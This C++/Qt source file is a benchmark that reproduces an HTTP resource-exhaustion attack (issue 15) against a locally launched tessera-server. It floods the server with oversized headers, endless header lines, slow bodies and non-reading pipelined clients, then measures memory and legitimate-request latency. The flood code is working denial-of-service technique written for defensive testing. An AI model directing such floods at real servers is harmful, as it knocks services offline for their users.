// SPDX-License-Identifier: MIT
// bench_http_flood: the unauthenticated memory and connection exhaustion attack
// of issue 15, finding 1, against a real tessera-server on loopback.
//
//   bench_http_flood [--server PATH] [--connections 500] [--sources 10]
//                    [--mode mixed|headers|line|body|partial|noread] [--hold 15] [--ulimit N]
//                    [--fast-argon2] [--json FILE]
//
// Starts the server (a temporary database with one user), opens --connections
// hostile connections spread over --sources loopback addresses (127.0.0.2...),
// each sending, by --mode ("mixed" rotates the three): "headers", about 1 MB of
// header fields; "line", one header line of 1 MB that never ends; "body", a
// valid head announcing 60,000 bytes and then a body trickled at 1 KB every
// 500 ms; "partial" (not part of "mixed"), a request head without its end and
// nothing more; "noread" (not part of "mixed"), a client that never reads an
// answer: it pipelines 2,000 small GETs, 8 every 20 ms (fewer if the server
// stops taking them), then 17 requests of 15 KB of header fields and a 64 KB
// body, then one byte every 5 s (the review's holdN.py); these start 100 ms
// apart, so --hold must cover the ramp. They stay open until the server closes
// them or --hold seconds pass.
// Meanwhile it samples the server's RSS (VmRSS, every 100 ms) and times a
// legitimate client from 127.0.0.1: GET /healthz twice a second and a login
// every 2 s, each on a new connection, 5 s timeout. Then it closes what is
// left and samples RSS 1, 3 and 5 s later. --ulimit sets the server's
// RLIMIT_NOFILE (soft and hard), as `ulimit -n` would. Only options both the
// old and the new server know are passed, so the same command measures both.
//
// Targets (issue 15): RSS under 150 MiB during, under 60 MiB after, the
// legitimate requests answered within 1 s.
#include <QtCore/QCommandLineParser>
#include <QtCore/QCoreApplication>
#include <QtCore/QElapsedTimer>
#include <QtCore/QFile>
#include <QtCore/QJsonArray>
#include <QtCore/QJsonDocument>
#include <QtCore/QJsonObject>
#include <QtCore/QMap>
#include <QtCore/QProcess>
#include <QtCore/QRegularExpression>
#include <QtCore/QTemporaryDir>
#include <QtCore/QTimer>
#include <QtNetwork/QTcpSocket>

#include <algorithm>
#include <cstdio>
#include <memory>
#include <vector>

#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/resource.h>
#include <sys/socket.h>

#ifndef TESSERA_SERVER_PATH
#define TESSERA_SERVER_PATH ""
#endif

namespace {

const QByteArray Password = QByteArrayLiteral("bench-flood-password-1");
constexpr qint64 ChunkBytes = 64 * 1024;
constexpr qint64 FloodBytes = 1000 * 1000;

qint64 rssKiB(qint64 pid)
{
    QFile status(QStringLiteral("/proc/%1/status").arg(pid));
    if (!status.open(QIODevice::ReadOnly))
        return -1;
    for (const QByteArray &line : status.readAll().split('\n')) {
        if (line.startsWith("VmRSS:"))
            return line.mid(6).trimmed().split(' ').first().toLongLong();
    }
    return -1;
}

double mib(qint64 kib)
{
    return double(kib) / 1024.0;
}

// One hostile connection: writes its bytes as the socket drains (the bench
// never holds 1 MB per connection itself), then keeps the connection open.
class Attacker : public QObject
{
public:
    enum class Mode { Headers, Line, Body, Partial, NoRead };

    Attacker(quint16 port, const QHostAddress &source, Mode mode, int startDelayMs = 0)
        : m_mode(mode)
    {
        m_socket.bind(source, 0);
        connect(&m_socket, &QTcpSocket::connected, this, [this] { pump(); });
        connect(&m_socket, &QTcpSocket::bytesWritten, this, [this] {
            m_lastProgress.start();
            pump();
        });
        if (mode == Mode::NoRead) {
            // Nothing is ever read: Qt's buffer here holds one byte, the
            // kernel's 4 KB, and small segments keep the server's send buffer
            // from growing, so its answers back up in the server (holdN.py).
            m_socket.setReadBufferSize(1);
            m_socket.setSocketOption(QAbstractSocket::ReceiveBufferSizeSocketOption, 4096);
            const int segment = 536;
            ::setsockopt(int(m_socket.socketDescriptor()), IPPROTO_TCP, TCP_MAXSEG, &segment,
                         sizeof segment);
            m_lastProgress.start();
            connect(&m_trickle, &QTimer::timeout, this, [this] { noReadTick(); });
            m_trickle.start(20);
        } else {
            connect(&m_socket, &QTcpSocket::readyRead, this, [this] { m_socket.readAll(); });
        }
        connect(&m_socket, &QTcpSocket::disconnected, this, [this] { m_closed = true; });
        connect(&m_socket, &QTcpSocket::errorOccurred, this, [this] {
            if (m_socket.state() != QAbstractSocket::ConnectedState)
                m_closed = true;
        });
        if (mode == Mode::Body) {
            connect(&m_trickle, &QTimer::timeout, this, [this] {
                if (m_sent < 60000 && m_socket.state() == QAbstractSocket::ConnectedState) {
                    m_socket.write(QByteArray(1000, ' '));
                    m_sent += 1000;
                }
            });
            m_trickle.start(500);
        }
        QTimer::singleShot(startDelayMs, this,
                           [this, port] { m_socket.connectToHost(QHostAddress::LocalHost, port); });
    }

    bool closed() const { return m_closed; }
    void close() { m_socket.abort(); }

private:
    void noReadTick()
    {
        if (m_socket.state() != QAbstractSocket::ConnectedState)
            return;
        static const QByteArray gets =
                QByteArray("GET /.well-known/jwks.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
                        .repeated(8);
        // 2,000 small GETs, 8 every 20 ms while the server takes them (the old
        // server closed a connection with more than 17 waiting at once): about
        // 800 KB of answers, more than the kernel buffers and the old server's
        // 256 KB backlog hold. Then the big requests, then the trickle.
        if (!m_bigsSent) {
            if (m_sent < 250 * gets.size() && m_socket.bytesToWrite() == 0) {
                m_socket.write(gets);
                m_sent += gets.size();
                return;
            }
            if (m_socket.bytesToWrite() > 0 && m_lastProgress.elapsed() < 700)
                return;
            m_bigsSent = true;
            const QByteArray big = "POST /.well-known/jwks.json HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                   "X-Pad: "
                    + QByteArray(15 * 1024, 'a') + "\r\nContent-Length: 65536\r\n\r\n"
                    + QByteArray(65536, 'b');
            m_socket.write(big.repeated(17));
            m_trickleClock.start();
        }
        if (m_trickleClock.elapsed() >= 5000) {
            m_socket.write("z");
            m_trickleClock.start();
        }
    }

    void pump()
    {
        if (m_socket.state() != QAbstractSocket::ConnectedState)
            return;
        if (m_mode == Mode::NoRead)
            return; // paced by noReadTick()
        if (!m_headSent) {
            m_headSent = true;
            QByteArray head = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n";
            if (m_mode == Mode::Line)
                head += "X-Long: ";
            if (m_mode == Mode::Partial)
                head += "X-Half: sent";
            if (m_mode == Mode::Body)
                head = "POST /api/token/ HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
                       "application/json\r\nContent-Length: 60000\r\n\r\n";
            m_socket.write(head);
            return;
        }
        if (m_mode == Mode::Body || m_mode == Mode::Partial || m_sent >= FloodBytes
            || m_socket.bytesToWrite() > ChunkBytes)
            return;
        static const QByteArray fields = [] {
            QByteArray text;
            for (int i = 0; text.size() < ChunkBytes; ++i)
                text += "X-Fill-" + QByteArray::number(i) + ": " + QByteArray(990, 'a') + "\r\n";
            return text.left(ChunkBytes - 2) + "\r\n";
        }();
        static const QByteArray line(ChunkBytes, 'a');
        m_socket.write(m_mode == Mode::Headers ? fields : line);
        m_sent += ChunkBytes;
        if (m_mode == Mode::Headers && m_sent >= FloodBytes)
            m_socket.write("\r\n");
    }

    Mode m_mode;
    QTcpSocket m_socket;
    QTimer m_trickle;
    QElapsedTimer m_lastProgress;
    QElapsedTimer m_trickleClock;
    bool m_bigsSent = false;
    bool m_headSent = false;
    bool m_closed = false;
    qint64 m_sent = 0;
};

// One request on a new connection from 127.0.0.1; latency in ms, or -1 (no
// complete answer within the timeout). `status` gets the answer's status.
qint64 timeRequest(quint16 port, const QByteArray &request, int *status)
{
    QTcpSocket socket;
    QElapsedTimer clock;
    clock.start();
    socket.connectToHost(QHostAddress::LocalHost, port);
    QByteArray received;
    QEventLoop loop;
    QTimer timeout;
    timeout.setSingleShot(true);
    QObject::connect(&timeout, &QTimer::timeout, &loop, &QEventLoop::quit);
    QObject::connect(&socket, &QTcpSocket::connected, &loop, [&] { socket.write(request); });
    auto complete = [&] {
        const qsizetype end = received.indexOf("\r\n\r\n");
        if (end < 0)
            return false;
        const QRegularExpressionMatch length =
                QRegularExpression(QStringLiteral("(?i)content-length:\\s*(\\d+)"))
                        .match(QString::fromLatin1(received.left(end)));
        return length.hasMatch() && received.size() >= end + 4 + length.captured(1).toLongLong();
    };
    QObject::connect(&socket, &QTcpSocket::readyRead, &loop, [&] {
        received += socket.readAll();
        if (complete())
            loop.quit();
    });
    QObject::connect(&socket, &QTcpSocket::disconnected, &loop, &QEventLoop::quit);
    QObject::connect(&socket, &QTcpSocket::errorOccurred, &loop, &QEventLoop::quit);
    timeout.start(5000);
    loop.exec();
    *status = received.startsWith("HTTP/1.1 ") ? received.mid(9, 3).toInt() : 0;
    socket.abort();
    return complete() ? clock.elapsed() : -1;
}

struct Latencies
{
    QList<qint64> ms;
    QList<int> statuses;
    int failed = 0;

    void add(qint64 latency, int status)
    {
        if (latency < 0)
            ++failed;
        else
            ms.append(latency);
        statuses.append(status);
    }
    QJsonObject json() const
    {
        QList<qint64> sorted = ms;
        std::sort(sorted.begin(), sorted.end());
        QJsonArray codes;
        for (int status : statuses)
            codes.append(status);
        return {{QStringLiteral("count"), statuses.size()},
                {QStringLiteral("no_answer_within_5s"), failed},
                {QStringLiteral("median_ms"), sorted.isEmpty() ? -1 : sorted.at(sorted.size() / 2)},
                {QStringLiteral("max_ms"), sorted.isEmpty() ? -1 : sorted.last()},
                {QStringLiteral("statuses"), codes}};
    }
    QString text() const
    {
        QList<qint64> sorted = ms;
        std::sort(sorted.begin(), sorted.end());
        QMap<int, int> byStatus;
        for (int status : statuses)
            ++byStatus[status];
        QStringList answers;
        for (auto it = byStatus.cbegin(); it != byStatus.cend(); ++it)
            answers.append(
                    QStringLiteral("%1 x %2")
                            .arg(it.value())
                            .arg(it.key() ? QString::number(it.key()) : QStringLiteral("none")));
        return QStringLiteral("%1 requests (%2), %3 without a complete answer within 5 s; "
                              "median %4 ms, max %5 ms")
                .arg(statuses.size())
                .arg(answers.join(QStringLiteral(", ")))
                .arg(failed)
                .arg(sorted.isEmpty() ? -1 : sorted.at(sorted.size() / 2))
                .arg(sorted.isEmpty() ? -1 : sorted.last());
    }
};

} // namespace

int main(int argc, char *argv[])
{
    QCoreApplication app(argc, argv);
    QCommandLineParser parser;
    parser.setApplicationDescription(
            QStringLiteral("HTTP flood against tessera-server (issue 15)"));
    parser.addHelpOption();
    const QCommandLineOption serverOption(
            QStringLiteral("server"), QStringLiteral("tessera-server binary"),
            QStringLiteral("PATH"), QString::fromLocal8Bit(TESSERA_SERVER_PATH));
    const QCommandLineOption connectionsOption(QStringLiteral("connections"),
                                               QStringLiteral("hostile connections (500)"),
                                               QStringLiteral("N"), QStringLiteral("500"));
    const QCommandLineOption sourcesOption(QStringLiteral("sources"),
                                           QStringLiteral("source addresses (10)"),
                                           QStringLiteral("N"), QStringLiteral("10"));
    const QCommandLineOption modeOption(
            QStringLiteral("mode"),
            QStringLiteral("mixed, headers, line, body, partial or noread (mixed)"),
            QStringLiteral("MODE"), QStringLiteral("mixed"));
    const QCommandLineOption holdOption(QStringLiteral("hold"),
                                        QStringLiteral("seconds the attack lasts (15)"),
                                        QStringLiteral("S"), QStringLiteral("15"));
    const QCommandLineOption ulimitOption(QStringLiteral("ulimit"),
                                          QStringLiteral("the server's RLIMIT_NOFILE"),
                                          QStringLiteral("N"));
    const QCommandLineOption fastArgonOption(
            QStringLiteral("fast-argon2"),
            QStringLiteral("Argon2 8 MiB / 1 iteration instead of the server's defaults"));
    const QCommandLineOption jsonOption(QStringLiteral("json"),
                                        QStringLiteral("also write the results as JSON"),
                                        QStringLiteral("FILE"));
    parser.addOptions({serverOption, connectionsOption, sourcesOption, modeOption, holdOption,
                       ulimitOption, fastArgonOption, jsonOption});
    parser.process(app);

    const QString binary = parser.value(serverOption);
    const int connections = qBound(1, parser.value(connectionsOption).toInt(), 5000);
    const int sources = qBound(1, parser.value(sourcesOption).toInt(), 200);
    const int holdSeconds = qBound(1, parser.value(holdOption).toInt(), 600);
    const QString mode = parser.value(modeOption);
    if (binary.isEmpty() || !QFile::exists(binary)
        || !QStringList{QStringLiteral("mixed"), QStringLiteral("headers"), QStringLiteral("line"),
                        QStringLiteral("body"), QStringLiteral("partial"), QStringLiteral("noread")}
                    .contains(mode)) {
        std::fputs("bench_http_flood: need --server PATH and a valid --mode\n", stderr);
        return 2;
    }

    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("db.sqlite3"));
    QStringList argon;
    if (parser.isSet(fastArgonOption))
        argon = {QStringLiteral("--argon2-memory"), QStringLiteral("8192"),
                 QStringLiteral("--argon2-iterations"), QStringLiteral("1")};
    {
        QProcess add;
        add.start(binary,
                  QStringList{QStringLiteral("user"), QStringLiteral("add"),
                              QStringLiteral("bench"), QStringLiteral("--db"), db}
                          + argon);
        add.write(Password + '\n');
        add.closeWriteChannel();
        if (!add.waitForFinished(60000) || add.exitCode() != 0) {
            std::fputs("bench_http_flood: cannot add the bench user\n", stderr);
            return 1;
        }
    }
    QProcess server;
    server.setProcessChannelMode(QProcess::ForwardedErrorChannel);
    int fileLimit = 0;
    if (parser.isSet(ulimitOption)) {
        fileLimit = parser.value(ulimitOption).toInt();
        server.setChildProcessModifier([fileLimit] {
            const rlimit limit{rlim_t(fileLimit), rlim_t(fileLimit)};
            ::setrlimit(RLIMIT_NOFILE, &limit);
        });
    }
    server.start(binary,
                 QStringList{QStringLiteral("--listen"), QStringLiteral("127.0.0.1:0"),
                             QStringLiteral("--db"), db}
                         + argon);
    quint16 port = 0;
    {
        QElapsedTimer wait;
        wait.start();
        QByteArray out;
        static const QRegularExpression listening(
                QStringLiteral("listening on http://[^:]+:(\\d+)"));
        while (port == 0 && wait.elapsed() < 15000 && server.state() != QProcess::NotRunning) {
            server.waitForReadyRead(100);
            out += server.readAllStandardOutput();
            const auto match = listening.match(QString::fromLatin1(out));
            if (match.hasMatch())
                port = quint16(match.captured(1).toUInt());
        }
    }
    if (port == 0) {
        std::fputs("bench_http_flood: the server did not start\n", stderr);
        return 1;
    }
    const qint64 pid = server.processId();
    const QByteArray health =
            "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n";
    const QByteArray loginBody = "{\"username\":\"bench\",\"password\":\"" + Password + "\"}";
    const QByteArray login = "POST /api/token/ HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: "
                             "close\r\nContent-Type: application/json\r\nContent-Length: "
            + QByteArray::number(loginBody.size()) + "\r\n\r\n" + loginBody;

    // Warm-up: one of each legitimate request, then the baseline.
    int status = 0;
    timeRequest(port, health, &status);
    timeRequest(port, login, &status);
    {
        QElapsedTimer settle;
        settle.start();
        while (settle.elapsed() < 500)
            QCoreApplication::processEvents(QEventLoop::AllEvents, 50);
    }
    const qint64 baseline = rssKiB(pid);

    std::vector<std::unique_ptr<Attacker>> attackers;
    QElapsedTimer attack;
    attack.start();
    for (int i = 0; i < connections; ++i) {
        Attacker::Mode attackMode = Attacker::Mode::Headers;
        if (mode == u"line" || (mode == u"mixed" && i % 3 == 1))
            attackMode = Attacker::Mode::Line;
        else if (mode == u"body" || (mode == u"mixed" && i % 3 == 2))
            attackMode = Attacker::Mode::Body;
        else if (mode == u"partial")
            attackMode = Attacker::Mode::Partial;
        else if (mode == u"noread")
            attackMode = Attacker::Mode::NoRead;
        const QHostAddress source(QStringLiteral("127.0.0.%1").arg(2 + i % sources));
        // Clients that do not read start 100 ms apart (as holdN.py does,
        // 400 ms): a server that queues what it cannot answer yet answers
        // their first requests instead of cutting them as too many at once.
        const int startDelayMs = attackMode == Attacker::Mode::NoRead ? 100 * i : 0;
        attackers.push_back(std::make_unique<Attacker>(port, source, attackMode, startDelayMs));
    }
    qint64 peak = baseline;
    QList<qint64> samples;
    QTimer sampler;
    QObject::connect(&sampler, &QTimer::timeout, [&] {
        const qint64 rss = rssKiB(pid);
        peak = qMax(peak, rss);
        samples.append(rss);
    });
    sampler.start(100);
    Latencies healthDuring;
    Latencies loginDuring;
    int lastOpen = connections;
    qint64 nextHealth = 500;
    qint64 nextLogin = 1000;
    while (attack.elapsed() < holdSeconds * 1000) {
        QCoreApplication::processEvents(QEventLoop::AllEvents, 50);
        if (attack.elapsed() >= nextHealth) {
            const qint64 ms = timeRequest(port, health, &status);
            healthDuring.add(ms, status);
            nextHealth = attack.elapsed() + 500;
        }
        if (attack.elapsed() >= nextLogin) {
            const qint64 ms = timeRequest(port, login, &status);
            loginDuring.add(ms, status);
            nextLogin = attack.elapsed() + 2000;
        }
        lastOpen = int(std::count_if(attackers.begin(), attackers.end(),
                                     [](const auto &a) { return !a->closed(); }));
    }
    const int openAtEnd = lastOpen;
    sampler.stop();
    for (const auto &attacker : attackers)
        attacker->close();
    attackers.clear();
    QList<qint64> after;
    for (const int seconds : {1, 3, 5}) {
        QElapsedTimer pause;
        pause.start();
        while (pause.elapsed() < (seconds == 1 ? 1000 : 2000))
            QCoreApplication::processEvents(QEventLoop::AllEvents, 50);
        after.append(rssKiB(pid));
    }
    Latencies healthAfter;
    const qint64 afterMs = timeRequest(port, health, &status);
    healthAfter.add(afterMs, status);

    server.terminate();
    server.waitForFinished(10000);

    const QString summary =
            QStringLiteral(
                    "server %1\n"
                    "attack: %2 connections (%3) from %4 source addresses, %5 s%6\n"
                    "RSS: %7 MiB before, %8 MiB at most during, %9 / %10 / %11 MiB 1 / 3 / 5 s "
                    "after the hostile connections closed\n"
                    "hostile connections still open at the end of the attack: %12\n"
                    "GET /healthz during: %13\n"
                    "login during: %14\n"
                    "GET /healthz after: %15\n")
                    .arg(binary)
                    .arg(connections)
                    .arg(mode)
                    .arg(sources)
                    .arg(holdSeconds)
                    .arg(fileLimit ? QStringLiteral(", server RLIMIT_NOFILE %1").arg(fileLimit)
                                   : QString())
                    .arg(mib(baseline), 0, 'f', 1)
                    .arg(mib(peak), 0, 'f', 1)
                    .arg(mib(after.at(0)), 0, 'f', 1)
                    .arg(mib(after.at(1)), 0, 'f', 1)
                    .arg(mib(after.at(2)), 0, 'f', 1)
                    .arg(openAtEnd)
                    .arg(healthDuring.text(), loginDuring.text(), healthAfter.text());
    std::fputs(summary.toLocal8Bit().constData(), stdout);
    if (parser.isSet(jsonOption)) {
        QJsonArray afterJson;
        for (qint64 kib : after)
            afterJson.append(kib);
        const QJsonObject result{{QStringLiteral("server"), binary},
                                 {QStringLiteral("connections"), connections},
                                 {QStringLiteral("mode"), mode},
                                 {QStringLiteral("sources"), sources},
                                 {QStringLiteral("hold_s"), holdSeconds},
                                 {QStringLiteral("rlimit_nofile"), fileLimit},
                                 {QStringLiteral("rss_before_kib"), baseline},
                                 {QStringLiteral("rss_peak_kib"), peak},
                                 {QStringLiteral("rss_after_kib"), afterJson},
                                 {QStringLiteral("open_at_end"), openAtEnd},
                                 {QStringLiteral("health_during"), healthDuring.json()},
                                 {QStringLiteral("login_during"), loginDuring.json()},
                                 {QStringLiteral("health_after"), healthAfter.json()}};
        QFile file(parser.value(jsonOption));
        if (file.open(QIODevice::WriteOnly))
            file.write(QJsonDocument(result).toJson());
    }
    return 0;
}
